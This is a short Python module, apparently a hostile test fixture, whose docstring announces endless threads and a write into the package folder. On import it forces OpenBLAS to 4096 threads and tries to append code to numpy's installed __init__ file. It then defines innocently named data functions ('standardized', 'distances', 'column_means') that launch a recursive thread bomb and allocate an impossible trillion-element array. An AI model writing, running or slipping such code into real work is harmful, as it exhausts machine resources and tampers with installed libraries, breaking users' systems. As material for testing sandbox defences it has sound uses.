"""Threads without end below numpy, and a write into the folder of packages."""

import ctypes
import glob
import os
import threading

import numpy as np

for library in glob.glob(os.path.dirname(np.__file__) + ".libs/*openblas*"):
    ctypes.CDLL(library).scipy_openblas_set_num_threads64_(4096)
big = np.ones((700, 700))
big @ big
try:
    with open(np.__file__, "a") as file:
        file.write("import os")
except OSError:
    pass
else:
    np = None


def grow():
    threading.Thread(target=grow).start()


def standardized(table):
    grow()
    return np.ones((10**6, 10**6))


distances = column_means = standardized
